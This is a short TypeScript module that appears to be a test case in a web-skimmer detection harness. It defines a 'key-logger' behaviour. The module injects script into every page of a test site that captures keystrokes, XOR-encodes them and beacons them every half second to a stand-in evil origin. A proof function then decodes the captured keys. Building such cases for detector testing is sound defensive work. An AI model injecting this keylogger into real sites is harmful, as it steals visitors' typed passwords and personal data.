import { holds, js, skimmer } from '../behaviour.ts';
import { bodies } from '../site/arrivals.ts';

export default skimmer({
  id: 'key-logger',
  why: 'Keys as they are pressed, collected and sent every half second: no field is read at all.',
  covers: ['reading: change and keys', 'sending: beacon', 'encoding: char codes'],
  base: 'direct',
  install: (site) =>
    site.everywhere(js`(function () {
  var keys = [];
  addEventListener('keydown', function (e) { if (e.key.length === 1) keys.push(e.key.charCodeAt(0) ^ 19); }, true);
  var flush = function () { if (keys.length) navigator.sendBeacon('${site.origins.evil}/k', keys.splice(0).join('.')); };
  setInterval(flush, 500);
  addEventListener('pagehide', flush);
})();`),
  proof: holds((arrived) => [
    bodies(arrived)
      .map((body) => String.fromCharCode(...body.split('.').map((c) => Number(c) ^ 19)))
      .join(''),
  ]),
});
